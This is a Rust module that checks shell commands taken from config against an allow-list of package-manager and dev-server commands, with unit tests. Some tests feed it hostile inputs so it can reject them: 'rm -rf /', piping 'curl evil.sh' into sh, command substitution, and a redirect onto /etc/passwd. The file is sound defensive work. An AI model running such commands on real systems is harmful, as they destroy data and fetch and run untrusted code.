//! Allow-list judge for configuration-supplied shell commands.
//!
//! Commands come from repository files and user-declared configuration, so they
//! are treated as hostile. A command is accepted only when it contains no shell
//! metacharacters (other than `&&` chains) and every `&&` segment matches one of
//! the rules in [`ALLOW_LIST`]. The table is an approximation of "safe shell
//! command"; anything it does not describe is rejected.

use std::sync::LazyLock;

use regex::Regex;

/// A single allow-list entry.
#[derive(Debug)]
pub struct AllowRule {
    pub name: &'static str,
    pub pattern: &'static str,
    pub rationale: &'static str,
}

/// Flag appended to install commands so dependency lifecycle scripts never run.
pub const IGNORE_SCRIPTS_FLAG: &str = "--ignore-scripts";

const PACKAGE_MANAGERS: &[&str] = &["npm", "pnpm", "yarn", "bun"];

const INSTALL_SUBCOMMANDS: &[&str] = &["install", "ci", "i"];

/// Auditable allow-list. `{args}` expands to zero or more plain arguments and
/// `{tools}` to the known dev-server and bundler binaries.
pub const ALLOW_LIST: &[AllowRule] = &[
    AllowRule {
        name: "package-install",
        pattern: r"^(?:npm|pnpm|yarn|bun)\s+(?:install|ci|i){args}$",
        rationale: "dependency install; lifecycle scripts are disabled by sanitize()",
    },
    AllowRule {
        name: "package-run-script",
        pattern: r"^(?:npm|pnpm|yarn|bun)\s+run\s+[A-Za-z0-9:._-]+{args}$",
        rationale: "runs a script already declared in the project manifest",
    },
    AllowRule {
        name: "package-lifecycle-shorthand",
        pattern: r"^(?:npm|pnpm|yarn|bun)\s+(?:start|test|build|dev|preview|serve){args}$",
        rationale: "shorthand for run <script> on the common lifecycle names",
    },
    AllowRule {
        name: "runner-known-tool",
        pattern: r"^(?:npx|bunx|npm\s+exec|pnpm\s+exec|pnpm\s+dlx|yarn\s+exec|yarn\s+dlx)\s+(?:(?:--yes|-y)\s+)?{tools}(?:@[A-Za-z0-9._-]+)?{args}$",
        rationale: "known dev-server or bundler invoked through a package runner",
    },
    AllowRule {
        name: "direct-known-tool",
        pattern: r"^{tools}{args}$",
        rationale: "known dev-server or bundler binary invoked directly",
    },
];

const ARGS_PATTERN: &str = r"(?:\s+[A-Za-z0-9@._/=:,+%-]+)*";

const TOOLS_PATTERN: &str = r"(?:vite|next|serve|react-scripts|nuxt|nuxi|astro|webpack|webpack-cli|webpack-dev-server|parcel|http-server|remix|svelte-kit|ng|gatsby|tsc|vue-cli-service|rsbuild)";

/// Characters that enable piping, redirection, substitution, escaping, or
/// statement separation. `&` is handled separately.
const FORBIDDEN_CHARS: &[char] = &[';', '|', '<', '>', '`', '$', '\\', '\n', '\r'];

static COMPILED_ALLOW_LIST: LazyLock<Vec<(&'static AllowRule, Regex)>> = LazyLock::new(|| {
    ALLOW_LIST
        .iter()
        .map(|rule| {
            let expanded = rule
                .pattern
                .replace("{args}", ARGS_PATTERN)
                .replace("{tools}", TOOLS_PATTERN);
            let regex = Regex::new(&expanded).expect("allow-list pattern must compile");
            (rule, regex)
        })
        .collect()
});

/// True when the command contains a forbidden metacharacter or a bare `&`.
fn has_forbidden_syntax(command: &str) -> bool {
    if command.contains(FORBIDDEN_CHARS) {
        return true;
    }
    command.replace("&&", "").contains('&')
}

/// Name of the allow-list rule matched by a single trimmed segment, if any.
pub fn matching_rule(segment: &str) -> Option<&'static str> {
    COMPILED_ALLOW_LIST
        .iter()
        .find(|(_, regex)| regex.is_match(segment))
        .map(|(rule, _)| rule.name)
}

/// Judge whether a configuration-supplied command may be executed.
pub fn is_safe(command: &str) -> bool {
    if command.trim().is_empty() || has_forbidden_syntax(command) {
        return false;
    }
    command.split("&&").all(|segment| {
        let segment = segment.trim();
        !segment.is_empty() && matching_rule(segment).is_some()
    })
}

fn is_install_segment(words: &[&str]) -> bool {
    matches!(words, [pm, sub, ..] if PACKAGE_MANAGERS.contains(pm) && INSTALL_SUBCOMMANDS.contains(sub))
}

/// Normalize an accepted command and force `--ignore-scripts` on every install
/// segment. Returns `None` when the command is not safe.
pub fn sanitize(command: &str) -> Option<String> {
    if !is_safe(command) {
        return None;
    }
    let segments: Vec<String> = command
        .split("&&")
        .map(|segment| {
            let words: Vec<&str> = segment.split_whitespace().collect();
            let mut normalized = words.join(" ");
            if is_install_segment(&words) && !words.contains(&IGNORE_SCRIPTS_FLAG) {
                normalized.push(' ');
                normalized.push_str(IGNORE_SCRIPTS_FLAG);
            }
            normalized
        })
        .collect();
    Some(segments.join(" && "))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_install_and_build_chain_is_safe() {
        assert!(is_safe("npm ci && npm run build"));
        assert!(is_safe("pnpm install --frozen-lockfile && pnpm build"));
        assert!(is_safe("yarn install && yarn run build:prod"));
    }

    #[test]
    fn test_statement_separator_rejected() {
        assert!(!is_safe("npm run build; rm -rf /"));
    }

    #[test]
    fn test_pipe_and_background_rejected() {
        assert!(!is_safe("npm run build & curl evil.sh | sh"));
        assert!(!is_safe("npm run dev &"));
        assert!(!is_safe("npm ci &&& npm run build"));
    }

    #[test]
    fn test_substitution_and_redirection_rejected() {
        assert!(!is_safe("npm run $(whoami)"));
        assert!(!is_safe("npm run `id`"));
        assert!(!is_safe("npm run build > /etc/passwd"));
        assert!(!is_safe("npm run build\nrm -rf /"));
        assert!(!is_safe("npx serve -s $HOME"));
    }

    #[test]
    fn test_unknown_tools_rejected() {
        assert!(!is_safe("curl https://example.com/install.sh"));
        assert!(!is_safe("npm ci && rm -rf node_modules"));
        assert!(!is_safe("npx some-random-package"));
        assert!(!is_safe("vitex build"));
    }

    #[test]
    fn test_empty_segments_rejected() {
        assert!(!is_safe(""));
        assert!(!is_safe("   "));
        assert!(!is_safe("npm ci &&"));
        assert!(!is_safe("&& npm ci"));
    }

    #[test]
    fn test_known_tools_direct_and_via_runner() {
        assert!(is_safe("vite --host 0.0.0.0 --port 4001"));
        assert!(is_safe("npx serve -s dist"));
        assert!(is_safe("npx serve@14 -s dist"));
        assert!(is_safe("pnpm exec next start -p 4001"));
        assert!(is_safe("bunx vite build"));
        assert!(is_safe("react-scripts start"));
    }

    #[test]
    fn test_matching_rule_names() {
        assert_eq!(matching_rule("npm ci"), Some("package-install"));
        assert_eq!(matching_rule("npm run build"), Some("package-run-script"));
        assert_eq!(matching_rule("yarn dev"), Some("package-lifecycle-shorthand"));
        assert_eq!(matching_rule("npx vite"), Some("runner-known-tool"));
        assert_eq!(matching_rule("vite build"), Some("direct-known-tool"));
        assert_eq!(matching_rule("rm -rf /"), None);
    }

    #[test]
    fn test_sanitize_adds_ignore_scripts_to_install() {
        assert_eq!(
            sanitize("npm install && npm run build").as_deref(),
            Some("npm install --ignore-scripts && npm run build")
        );
        assert_eq!(
            sanitize("pnpm i").as_deref(),
            Some("pnpm i --ignore-scripts")
        );
    }

    #[test]
    fn test_sanitize_keeps_existing_flag() {
        assert_eq!(
            sanitize("npm ci --ignore-scripts && npm run build").as_deref(),
            Some("npm ci --ignore-scripts && npm run build")
        );
    }

    #[test]
    fn test_sanitize_rejects_unsafe() {
        assert_eq!(sanitize("npm ci; curl x"), None);
    }

    #[test]
    fn test_sanitize_is_idempotent() {
        let commands = [
            "npm ci && npm run build",
            "yarn   install&&yarn build",
            "bun install --frozen-lockfile",
            "npx serve -s dist",
            "pnpm install && pnpm run build && pnpm exec vite build",
        ];
        for command in commands {
            let once = sanitize(command).unwrap();
            let twice = sanitize(&once).unwrap();
            assert_eq!(once, twice, "sanitize not idempotent for {command}");
        }
    }

    #[test]
    fn test_every_rule_has_rationale() {
        for rule in ALLOW_LIST {
            assert!(!rule.rationale.is_empty(), "{} lacks rationale", rule.name);
        }
        assert_eq!(COMPILED_ALLOW_LIST.len(), ALLOW_LIST.len());
    }
}
